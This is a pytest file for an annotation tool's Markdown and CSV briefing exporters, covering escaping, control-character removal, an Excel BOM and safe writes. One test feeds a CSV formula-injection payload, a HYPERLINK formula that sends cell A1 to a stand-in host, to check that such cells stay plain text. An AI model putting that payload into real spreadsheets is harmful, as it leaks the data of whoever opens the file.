"""Markdown and CSV renderings of the briefing model."""

from __future__ import annotations

import csv
import dataclasses
import io
import re

import pytest

from annotator.briefing.sanitize import clean_text
from annotator.core.atomic_write import WriteError
from annotator.core.briefing import BriefingOptions, build_briefing
from annotator.core.models import AnchorStatus, Annotation, DocStatus, Document, Tag
from annotator.formats.briefing_csv import COLUMNS, from_cell, render_csv, write_csv
from annotator.formats.briefing_markdown import escape, render_markdown, write_markdown

TEXT = "First para with *stars*.\n\n# Not a heading\nThird, with a | pipe and, commas."


def _doc() -> Document:
    return Document(
        1,
        1,
        "a/b.txt",
        "Doc *One*",
        "",
        DocStatus.PRESENT,
        "utf-8",
        12,
        0,
        "",
        "",
        "",
        "2026-01-02",
    )


TAGS = [
    Tag(1, "Parent", None, "", "Parent desc", "", 0),
    Tag(2, "Child", 1, "", "", "", 0),
    Tag(3, "Other", None, "", "", "", 1),
]


def _ann(i, start, end, tags, note="", status=AnchorStatus.EXACT):
    return Annotation(
        i, 1, start, end, TEXT[start:end], "", "", note, "Me", f"2026-01-0{i}T10:00", "",
        status, True, tags,
    )  # fmt: skip


def _briefing(**options):
    s2 = TEXT.index("# Not")
    s3 = TEXT.index("Third")
    annotations = [
        _ann(1, 0, 24, (2, 3), note='A note, with "quotes".\nSecond line.'),
        _ann(2, s2, s2 + 15, ()),
        _ann(3, s3, len(TEXT), (3,)),
        _ann(4, 0, 5, (1,), note="orphan", status=AnchorStatus.ORPHAN),
    ]
    return build_briefing(
        BriefingOptions(title="Brief", author="Me", **options),
        project_name="Proj",
        project_note="Summary text.",
        documents=[_doc()],
        texts={1: TEXT},
        tags=TAGS,
        annotations=annotations,
    )


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_has_named_columns_and_one_row_per_excerpt_and_tag():
    rows = _rows(render_csv(_briefing()))
    assert list(rows[0].keys()) == list(COLUMNS)
    pairs = [(r["annotation_id"], r["tag"]) for r in rows]
    assert pairs == [("1", "Child"), ("1", "Other"), ("2", ""), ("3", "Other")]
    first = rows[0]
    assert first["other_tags"] == "Other" and rows[1]["other_tags"] == "Child"
    assert first["tag_path"] == "Parent / Child"
    assert first["note"] == 'A note, with "quotes".\nSecond line.'
    assert (first["document"], first["paragraph"], first["start"], first["end"]) == (
        "Doc *One*",
        "1",
        "0",
        "24",
    )
    assert rows[3]["paragraph"] == "3" and rows[3]["quote"].endswith("commas.")


def test_csv_includes_orphans_only_when_asked():
    assert "orphan" not in {r["status"] for r in _rows(render_csv(_briefing()))}
    rows = _rows(render_csv(_briefing(include_orphans=True)))
    orphan = rows[-1]
    assert (orphan["status"], orphan["paragraph"], orphan["tag"]) == ("orphan", "", "Parent")


def test_csv_file_is_utf8_with_bom_for_excel(tmp_path):
    path = write_csv(_briefing(), tmp_path / "out.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert _rows(raw.decode("utf-8-sig")) == _rows(render_csv(_briefing()))
    plain = write_csv(_briefing(), tmp_path / "plain.csv", bom=False).read_bytes()
    assert plain == raw[3:]


def test_markdown_has_headings_per_tag_block_quotes_and_citations():
    md = render_markdown(_briefing())
    lines = md.splitlines()
    assert lines[0] == "# Brief"
    headings = [ln for ln in lines if ln.startswith("##")]
    assert headings == [
        "## Summary",
        "## Overview",
        "## Parent",
        "### Child",
        "## Other",
        "## Untagged",
        "## Appendix: Sources",
    ]
    assert "> First para with \\*stars\\*." in lines
    assert "> \\# Not a heading" in lines  # a quote never turns into a heading
    # No highlight date posing as the publication's.
    assert any(ln.rstrip() == "— *Doc \\*One\\**, ¶\u00a01" for ln in lines)
    assert "“First para with \\*stars\\*.” — see Child, ¶\u00a01" in lines  # printed once
    assert "Also tagged: Other" in md and '**Note:** A note, with "quotes".' in lines
    assert "| Tag | 1 | Total |" in lines
    assert "| Parent | 1 | 1 |" in lines and "| &nbsp;&nbsp;Child | 1 | 1 |" in lines


def test_markdown_orphans_and_grouping_by_document():
    md = render_markdown(_briefing(include_orphans=True, group_by="document"))
    assert "## Doc \\*One\\*" in md.splitlines()
    assert "## Appendix: Orphaned excerpts" in md and "> First" in md


@pytest.mark.parametrize(
    ("raw", "shown"),
    [("a*b_c", "a\\*b\\_c"), ("1. item", "1\\. item"), ("- dash", "\\- dash"), ("x|y", "x\\|y")],
)
def test_markdown_escape(raw, shown):
    assert escape(raw) == shown


def test_markdown_file_is_utf8_even_with_lone_surrogates(tmp_path):
    briefing = _briefing()
    briefing = dataclasses.replace(briefing, summary="bad \ud800 char 😀")
    path = write_markdown(briefing, tmp_path / "out.md")
    text = path.read_text(encoding="utf-8")
    assert "bad \ufffd char 😀" in text
    assert [p.name for p in tmp_path.iterdir()] == ["out.md"]


def _single(
    quote="Body text",
    *,
    tag="Topic",
    description="",
    note="",
    author="Me",
    doc_title="Doc",
    title="Brief",
    subtitle="",
    project="Proj",
):
    """A briefing of one excerpt whose every user-typed text is given."""
    annotation = Annotation(
        1, 1, 0, len(quote), quote, "", "", note, author, "2026-01-01T10:00", "",
        AnchorStatus.EXACT, True, (1,),
    )  # fmt: skip
    return build_briefing(
        BriefingOptions(title=title, subtitle=subtitle, author="Lead"),
        project_name=project,
        project_note="",
        documents=[dataclasses.replace(_doc(), title=doc_title)],
        texts={1: quote},
        tags=[Tag(1, tag, None, "", description, "", 0)],
        annotations=[annotation],
    )


@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t=", " ="])
def test_csv_cells_that_would_start_a_formula_stay_text(mark):
    payload = f'{mark}HYPERLINK("http://x.example/?"&A1,"Click")'
    briefing = _single(payload, tag=payload, note=payload, author=payload, doc_title=payload)
    (row,) = _rows(render_csv(briefing))
    for column in ("document", "tag", "tag_path", "quote", "note", "author"):
        assert row[column].startswith("'"), column
        assert from_cell(row[column]) == clean_text(payload), column
    # The numeric columns stay numbers a spreadsheet can sum and sort.
    assert (row["annotation_id"], row["paragraph"], row["start"], row["end"]) == (
        "1",
        "1",
        "0",
        str(len(payload)),
    )


@pytest.mark.parametrize(
    "quote",
    ["-Siberia-2 talks resumed", "- a bullet", "+44 20 7946 0000", "@home", "-5", "'quoted"],
)
def test_a_quote_no_spreadsheet_evaluates_equals_the_text_at_its_offsets(quote):
    (row,) = _rows(render_csv(_single(quote)))
    text = quote  # the document's text is the quote itself
    assert row["quote"] == text[int(row["start"]) : int(row["end"])] == quote


@pytest.mark.parametrize("data", ["=1+1", "'=1+1", "''=x", "-f(x)", "'-f(x)", "plain", "'plain"])
def test_the_guard_can_always_be_taken_off(data):
    (row,) = _rows(render_csv(_single(data)))
    assert from_cell(row["quote"]) == data


def test_csv_leaves_formula_characters_inside_a_cell_alone():
    (row,) = _rows(render_csv(_single("a = b + c - d @ e", note="Total: =SUM(A1)")))
    assert (row["quote"], row["note"]) == ("a = b + c - d @ e", "Total: =SUM(A1)")


@pytest.mark.parametrize("write", [write_csv, write_markdown])
def test_unwritable_target_raises_a_readable_write_error(tmp_path, write):
    folder = tmp_path / "taken"
    folder.mkdir()
    with pytest.raises(WriteError, match="taken"):
        write(_briefing(), folder)  # a folder given as the output file
    with pytest.raises(WriteError, match="does not exist"):
        write(_briefing(), tmp_path / "missing" / "out")
    # Nothing was half-written or left behind.
    assert [p.name for p in tmp_path.iterdir()] == ["taken"]
    assert list(folder.iterdir()) == []


_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def test_control_characters_never_reach_markdown_or_csv():
    dirty = "Ring\x07 the\x00 bell\x1b[0m\x0c"
    briefing = _single(
        "one\x00\ttab\nnext\x1bline",
        tag=dirty,
        description=dirty,
        note=dirty,
        author=dirty,
        doc_title=dirty,
        title=dirty,
        subtitle=dirty,
        project=dirty,
    )
    md = render_markdown(briefing)
    text = render_csv(briefing)
    assert not _CONTROL.search(md) and not _CONTROL.search(text)
    (row,) = _rows(text)
    assert row["quote"] == "one\ttab\nnextline"  # tabs and line breaks inside survive
    assert row["note"] == row["tag"] == "Ring the bell[0m "  # the form feed is a space
    lines = md.splitlines()
    assert "> one\ttab" in lines and "> nextline" in lines
    assert lines[0] == "# Ring the bell\\[0m"


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("&amp;", "&amp;amp;"),
        ("&copy; 2026", "&amp;copy; 2026"),
        ("&#42; and &#x2A;", "&amp;#42; and &amp;#x2A;"),
        ("Tom & Jerry; R&D", "Tom & Jerry; R&D"),  # no reference: left readable
        ("~~struck~~", "\\~\\~struck\\~\\~"),
        ("~~~", "\\~\\~\\~"),  # would open a fenced code block
    ],
)
def test_markdown_escape_references_and_tildes(raw, shown):
    assert escape(raw) == shown


def test_markdown_heading_keeps_a_trailing_hash():
    lines = render_markdown(_single(tag="Issue #", title="Brief ##")).splitlines()
    assert lines[0] == "# Brief #\\#"
    assert "## Issue \\#" in lines


def test_markdown_single_line_fields_lose_edge_whitespace():
    briefing = _single(subtitle="   - draft  ", project="    Indented project ", doc_title="  Doc ")
    lines = render_markdown(briefing).splitlines()
    assert lines[2] == "*\\- draft*"  # not a list item, and the emphasis closes
    assert lines[4] == "Indented project · Lead"  # not an indented code block
    assert any(ln.startswith("— *Doc*, ¶\u00a01") for ln in lines)


def test_markdown_description_emphasis_never_spans_a_blank_line():
    md = render_markdown(_single(tag="T", description="First point.\n\n  Second *point*.\n"))
    lines = md.splitlines()
    at = lines.index("## T")
    expected = ["", "**Description:** *First point.*", "", "*Second \\*point\\*.*", ""]
    assert lines[at + 1 : at + 6] == expected
